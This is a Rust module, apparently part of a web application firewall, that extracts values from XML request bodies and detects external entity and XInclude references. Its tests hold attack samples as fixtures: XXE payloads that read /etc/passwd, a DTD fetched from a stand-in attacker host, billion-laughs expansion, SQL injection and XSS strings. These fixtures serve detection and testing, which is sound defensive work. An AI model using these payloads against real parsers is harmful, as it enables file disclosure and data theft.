//! XML bodies (`application/xml`, `text/xml`, `+xml`, SOAP) read into the
//! values an application deserializing them gets: the text of each element
//! and each attribute value, with the element's name. Judged as one raw
//! text, a document's other elements outvoted a payload (`x' or '1'='1` in
//! the third `<note>` of an order passed), and its markup scored as
//! script (`<?xml version="1.0"?><order></order>` was blocked as XSS).
//!
//! Texts are handed out as written, entity and character references
//! included (`&lt;`, `&#60;`): the engine's decoders decode them, as they
//! do everywhere else. A CDATA section is text as is. The replacement
//! text of each internal entity a `DOCTYPE` declares is a value too, and
//! stands for its references in element texts and attribute values: a
//! parser that expands such entities (roxmltree, libxml2) hands `<!ENTITY
//! p "x' or '1'='1">` ... `&p;` to the application as the payload, which
//! rasp judged nowhere before the seventeenth session, nor a payload split
//! across entities (`&a;&b;`). One level is expanded, to at most the document's length
//! (at least 64 KiB) in all: a chain of entities that expand each other
//! ("billion laughs") costs no more.

use std::borrow::Cow;
use std::collections::HashMap;

use quick_xml::events::Event;
use quick_xml::Reader;

/// Calls `f(element name, text)` for each element text and attribute value
/// of `doc`, in document order, until `f` returns false (then `Ok`).
/// `Err(at)`: the document stops being XML at byte `at`, from which the
/// caller judges the rest as raw text; what was handed out before stands.
pub(crate) fn for_each_value<'a>(
    doc: &'a str,
    mut f: impl FnMut(Cow<'a, str>, Cow<'a, str>) -> bool,
) -> Result<(), usize> {
    let mut reader = Reader::from_str(doc);
    // Names need not match: a parser that lets them differ reads the same
    // texts, and this one must not stop where such a parser goes on.
    reader.config_mut().check_end_names = false;
    // The text of the current element, in pieces (references come as
    // separate events), and the element it belongs to.
    let mut text = String::new();
    let mut element = String::new();
    let mut entities = Entities::new(doc.len().max(1 << 16));
    // Hands the element's text to `f` when it holds more than white space;
    // false when `f` stopped.
    fn flush<'a>(
        f: &mut impl FnMut(Cow<'a, str>, Cow<'a, str>) -> bool,
        element: &str,
        text: &mut String,
    ) -> bool {
        let go_on = text.trim().is_empty()
            || f(
                Cow::Owned(element.to_string()),
                Cow::Owned(std::mem::take(text)),
            );
        text.clear();
        go_on
    }
    loop {
        let at = usize::try_from(reader.buffer_position()).unwrap_or(usize::MAX);
        let event = reader.read_event().map_err(|_| at)?;
        let go_on = match event {
            Event::Start(e) | Event::Empty(e) => {
                if !flush(&mut f, &element, &mut text) {
                    return Ok(());
                }
                element = e.name().as_ref().to_string();
                for attr in e.attributes().with_checks(false) {
                    let attr = attr.map_err(|_| at)?;
                    let key = attr.key.as_ref().to_string();
                    let expanded = entities.expand(&attr.value);
                    // An event handler (SVG's `onbegin`, `onload`) is judged
                    // with its name: `top.location='//x'` alone is no script,
                    // `onbegin="top.location='//x'"` is.
                    let value = if key.len() > 2 && key.as_bytes()[..2].eq_ignore_ascii_case(b"on")
                    {
                        format!("{key}=\"{expanded}\"")
                    } else {
                        expanded.into_owned()
                    };
                    if !f(Cow::Owned(key), Cow::Owned(value)) {
                        return Ok(());
                    }
                }
                true
            }
            Event::End(_) => flush(&mut f, &element, &mut text),
            Event::Text(t) => {
                text.push_str(&t);
                true
            }
            Event::CData(c) => {
                text.push_str(&c);
                true
            }
            Event::GeneralRef(r) => {
                match entities.expansion(&r) {
                    Some(v) => text.push_str(v),
                    None => {
                        text.push('&');
                        text.push_str(&r);
                        text.push(';');
                    }
                }
                true
            }
            // Of a DOCTYPE's declarations only an internal entity's text
            // reaches the application, where it is referenced (an internal
            // subset's `<!ELEMENT` scored as markup); external entities are
            // the `xxe` check's (see `external_reference`).
            Event::DocType(d) => {
                let declared: &str = &d;
                entity_values(declared).all(|(name, value)| {
                    entities.declare(name, value);
                    f(Cow::Owned(name.to_string()), Cow::Owned(value.to_string()))
                })
            }
            Event::Comment(_) | Event::Decl(_) | Event::PI(_) => true,
            Event::Eof => {
                flush(&mut f, &element, &mut text);
                return Ok(());
            }
        };
        if !go_on {
            return Ok(());
        }
    }
}

/// The first declaration of `doc` that has an XML parser read another
/// resource, as the event's payload: an external entity, general or
/// parameter (`<!ENTITY x SYSTEM "file:///etc/passwd">`, `<!ENTITY % x
/// PUBLIC "id" "http://...">`), a document type read from a `SYSTEM`
/// address (`<!DOCTYPE x SYSTEM "http://...">`, which may declare such
/// entities itself), or the XInclude namespace (`<xi:include
/// href="file:///etc/passwd" parse="text"/>`). A document type named by a
/// `PUBLIC` identifier (`<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
/// ...>`, as SVG and XHTML files start) is a catalogue name, not counted.
/// Internal entities (`<!ENTITY p "text">`) are values (see the module).
#[cold]
#[inline(never)]
pub(crate) fn external_reference(doc: &[u8]) -> Option<String> {
    let payload = |at: usize| {
        let end = doc[at..]
            .iter()
            .take(256)
            .position(|&c| c == b'>')
            .map_or((at + 256).min(doc.len()), |e| at + e + 1);
        String::from_utf8_lossy(&doc[at..end]).into_owned()
    };
    if let Some(at) = memchr::memmem::find(doc, b"http://www.w3.org/2001/XInclude") {
        return Some(payload(at));
    }
    // After a keyword: white space, a name (bounded, as in
    // `entity_values`), white space; what follows.
    let after_name = |mut rest: &'_ [u8], parameter: bool| -> Option<usize> {
        let start = doc.len() - rest.len();
        rest = rest.trim_ascii_start();
        if parameter {
            if let Some(r) = rest.strip_prefix(b"%") {
                rest = r.trim_ascii_start();
            }
        }
        let name = rest
            .iter()
            .take(MAX_ENTITY_NAME + 1)
            .position(|c| c.is_ascii_whitespace() || matches!(c, b'[' | b'>'))?;
        let rest = rest[name..].trim_ascii_start();
        Some(doc.len() - rest.len() - start)
    };
    for at in memchr::memmem::find_iter(doc, b"<!DOCTYPE") {
        let rest = &doc[at + b"<!DOCTYPE".len()..];
        let system = after_name(rest, false)
            .and_then(|n| rest[n..].strip_prefix(b"SYSTEM"))
            .is_some_and(addressed);
        if system {
            return Some(payload(at));
        }
    }
    for at in memchr::memmem::find_iter(doc, b"<!ENTITY") {
        let rest = &doc[at + b"<!ENTITY".len()..];
        if after_name(rest, true)
            .is_some_and(|n| rest[n..].starts_with(b"SYSTEM") || rest[n..].starts_with(b"PUBLIC"))
        {
            return Some(payload(at));
        }
    }
    None
}

/// Whether a value holds what [`external_reference`] finds (a value
/// without `<` holds no declaration and no element).
#[inline]
pub(crate) fn refers_outside(value: &[u8]) -> bool {
    memchr::memchr(b'<', value).is_some() && external_reference(value).is_some()
}

/// Whether the system literal that starts `rest` (after white space) is
/// an address: a URL (`http:`, `file:`, `jar:`, ...) or an absolute path.
/// A relative name (`<!DOCTYPE note SYSTEM "Note.dtd">`, as tutorials and
/// older XML write it) reads a file beside the application's own.
fn addressed(rest: &[u8]) -> bool {
    let rest = rest.trim_ascii_start();
    let Some((&quote, literal)) = rest.split_first() else {
        return false;
    };
    let end = literal
        .iter()
        .take(256)
        .position(|&c| c == quote)
        .unwrap_or(literal.len().min(256));
    let literal = &literal[..end];
    matches!(quote, b'"' | b'\'')
        && (literal.contains(&b':')
            || matches!(literal.trim_ascii_start().first(), Some(b'/' | b'\\')))
}

/// Longest entity name looked for (in a declaration, in a reference).
const MAX_ENTITY_NAME: usize = 64;

/// The internal entities a document declared, and how many bytes their
/// expansion may still add (see the module doc).
struct Entities {
    texts: HashMap<String, String>,
    budget: usize,
}

impl Entities {
    fn new(budget: usize) -> Self {
        Entities {
            texts: HashMap::new(),
            budget,
        }
    }

    fn declare(&mut self, name: &str, text: &str) {
        self.texts.insert(name.to_string(), text.to_string());
    }

    /// The text a reference to `name` stands for, charged to the budget;
    /// `None` for an undeclared entity or past the budget.
    fn expansion(&mut self, name: &str) -> Option<&str> {
        let text = self.texts.get(name).filter(|t| t.len() <= self.budget)?;
        self.budget -= text.len();
        Some(text)
    }

    /// `raw` with each reference to a declared entity (`&p;`) replaced by
    /// its [`Entities::expansion`]; other references stay as written.
    fn expand<'a>(&mut self, raw: &'a str) -> Cow<'a, str> {
        if self.texts.is_empty() || !raw.contains('&') {
            return Cow::Borrowed(raw);
        }
        let mut out = String::with_capacity(raw.len());
        let mut rest = raw;
        while let Some(amp) = rest.find('&') {
            out.push_str(&rest[..amp]);
            let after = &rest[amp + 1..];
            // The `;` is looked for among the next few bytes only: searched
            // to the end from each `&`, a value of many `&` cost its length
            // squared.
            let end = after
                .bytes()
                .take(MAX_ENTITY_NAME + 1)
                .position(|c| c == b';');
            match end.and_then(|end| Some((self.expansion(&after[..end])?, end))) {
                Some((text, end)) => {
                    out.push_str(text);
                    rest = &after[end + 1..];
                }
                None => {
                    out.push('&');
                    rest = after;
                }
            }
        }
        out.push_str(rest);
        Cow::Owned(out)
    }
}

/// The name and replacement text of each internal entity an internal
/// subset declares (`<!ENTITY name "text">`, `<!ENTITY % name 'text'>`);
/// external ones (`SYSTEM`, `PUBLIC`) have none.
fn entity_values(doctype: &str) -> impl Iterator<Item = (&str, &str)> {
    doctype
        .match_indices("<!ENTITY")
        .filter_map(move |(at, _)| {
            let rest = doctype[at + "<!ENTITY".len()..].trim_start();
            let rest = rest.strip_prefix('%').map_or(rest, str::trim_start);
            // A name is short: looked for to the end of the subset from
            // each `<!ENTITY`, a subset of them without white space cost its
            // length squared.
            let name_end = rest
                .bytes()
                .take(MAX_ENTITY_NAME + 1)
                .position(|c| c.is_ascii_whitespace())?;
            let (name, rest) = (&rest[..name_end], rest[name_end..].trim_start());
            let quote = rest.chars().next().filter(|c| matches!(c, '"' | '\''))?;
            let value = &rest[1..];
            Some((name, &value[..value.find(quote)?]))
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn values(doc: &str) -> (Vec<(String, String)>, Result<(), usize>) {
        let mut out = Vec::new();
        let r = for_each_value(doc, |n, t| {
            out.push((n.into_owned(), t.into_owned()));
            true
        });
        (out, r)
    }

    #[test]
    fn texts_and_attributes_in_order() {
        let (v, r) = values(
            r#"<?xml version="1.0"?><order id="7"><item sku="a&amp;b"><note>x &lt; y</note></item><note><![CDATA[<b>]]></note><e/></order>"#,
        );
        assert_eq!(r, Ok(()));
        let v: Vec<(&str, &str)> = v.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
        assert_eq!(
            v,
            [
                ("id", "7"),
                ("sku", "a&amp;b"),
                ("note", "x &lt; y"),
                ("note", "<b>")
            ]
        );
    }

    #[test]
    fn internal_entities_are_values() {
        let (v, r) = values(
            r#"<?xml version="1.0"?><!DOCTYPE order [<!ENTITY p "x' or '1'='1"><!ENTITY % q 'two'><!ENTITY ext SYSTEM "file:///etc/hostname">]><order><note>&p;</note></order>"#,
        );
        assert_eq!(r, Ok(()));
        let v: Vec<(&str, &str)> = v.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
        assert_eq!(
            v,
            [
                ("p", "x' or '1'='1"),
                ("q", "two"),
                ("note", "x' or '1'='1")
            ]
        );
        // Split across entities, the text is whole; undeclared and
        // predefined references stay as written.
        let (v, _) = values(
            r#"<!DOCTYPE o [<!ENTITY a "x' or "><!ENTITY b "'1'='1">]><o><n>&a;&b;</n><m>&lt;&zz;</m></o>"#,
        );
        let texts: Vec<(&str, &str)> = v.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
        assert_eq!(texts[2..], [("n", "x' or '1'='1"), ("m", "&lt;&zz;")]);
        // And in attribute values.
        let (v, _) = values(
            r#"<!DOCTYPE o [<!ENTITY a "x' or "><!ENTITY h "alert(1)">]><o note="&a;'1'='1 &amp;" onload="&h;"/>"#,
        );
        let texts: Vec<(&str, &str)> = v.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
        assert_eq!(
            texts[2..],
            [
                ("note", "x' or '1'='1 &amp;"),
                ("onload", "onload=\"alert(1)\"")
            ]
        );
        // Many `&` without `;`: each searched to the end, they cost their
        // number squared (this module's tests took 1.7 s instead of 0.5 s
        // with these 200,000; a 2 MiB body holds ten times as many).
        let amps = format!(
            r#"<!DOCTYPE o [<!ENTITY a "x">]><o v="{}"/>"#,
            "&".repeat(200_000)
        );
        let (v, _) = values(&amps);
        assert_eq!(v.last().map(|(_, t)| t.len()), Some(200_000));
        // Declarations without white space after `<!ENTITY`: each name was
        // looked for to the end of the subset (2 MB: 4.25 s, release build).
        let decl = format!("<!ENTITY{}>", "a".repeat(1000));
        let decls = format!("<!DOCTYPE o [{}]><o/>", decl.repeat(2000));
        let (v, r) = values(&decls);
        assert_eq!((v.len(), r), (0, Ok(())));
        // Billion laughs: expansion stops at the budget, one level deep.
        let laughs = format!(
            "<!DOCTYPE l [<!ENTITY a \"{}\">]><l>{}</l>",
            "ha".repeat(10_000),
            "&a;".repeat(1000)
        );
        let (v, r) = values(&laughs);
        assert_eq!(r, Ok(()));
        let text = &v.last().unwrap().1;
        assert!(
            text.len() <= laughs.len().max(1 << 16) + 3 * 1000,
            "{}",
            text.len()
        );
        // A DOCTYPE without an internal subset declares nothing.
        let (v, _) = values(
            r#"<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>"#,
        );
        assert!(v.is_empty(), "{v:?}");
    }

    #[test]
    fn external_references_are_found() {
        for doc in [
            r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#,
            r#"<!DOCTYPE foo [ <!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd; ]><foo/>"#,
            r#"<!DOCTYPE foo [<!ENTITY  x   PUBLIC "-//x//EN" "http://evil.example/x">]><foo/>"#,
            r#"<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd"><foo/>"#,
            "<!DOCTYPE\nfoo\nSYSTEM\n'file:///etc/hostname'>",
            r#"<!DOCTYPE foo SYSTEM "/etc/passwd"><foo/>"#,
            r#"<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>"#,
        ] {
            assert!(external_reference(doc.as_bytes()).is_some(), "{doc}");
        }
        assert_eq!(
            external_reference(br#"<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>"#)
                .as_deref(),
            Some(r#"<!ENTITY x SYSTEM "file:///etc/passwd">"#)
        );
        for doc in [
            r#"<?xml version="1.0"?><order><note>ENTITY SYSTEM</note></order>"#,
            r#"<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>"#,
            r#"<!DOCTYPE html><html/>"#,
            r#"<?xml version="1.0"?><!DOCTYPE note SYSTEM "Note.dtd"><note/>"#,
            r#"<!DOCTYPE o [<!ENTITY p "SYSTEM"><!ENTITY % q 'PUBLIC'>]><o>&p;</o>"#,
            "<!DOCTYPE",
            "<!ENTITY",
            "<!ENTITY %",
        ] {
            assert_eq!(external_reference(doc.as_bytes()), None, "{doc}");
        }
    }

    #[test]
    fn a_broken_document_stops_where_it_breaks() {
        let doc = "<a>one</a><b x='1' x='2'>two</b><c>three";
        let (v, r) = values("<a>one</a><b <<< >two</b>");
        assert_eq!(v, [("a".to_string(), "one".to_string())]);
        assert!(matches!(r, Err(at) if at >= "<a>one</a>".len()));
        // Unclosed at the end: what was read stands.
        let (v, _) = values(doc);
        assert!(v.iter().any(|(_, t)| t == "one"));
    }

    proptest::proptest! {
        #[test]
        fn never_panics_on_markup(doc in "[<>/=\"'&;!?\\[\\]#xa-c \\-]{0,120}") {
            let mut n = 0;
            let r = for_each_value(&doc, |_, _| {
                n += 1;
                true
            });
            if let Err(at) = r {
                proptest::prop_assert!(at <= doc.len());
            }
        }
    }

    #[test]
    fn stops_when_asked() {
        let mut n = 0;
        let r = for_each_value("<a>1</a><a>2</a><a>3</a>", |_, _| {
            n += 1;
            n < 2
        });
        assert_eq!((r, n), (Ok(()), 2));
    }
}
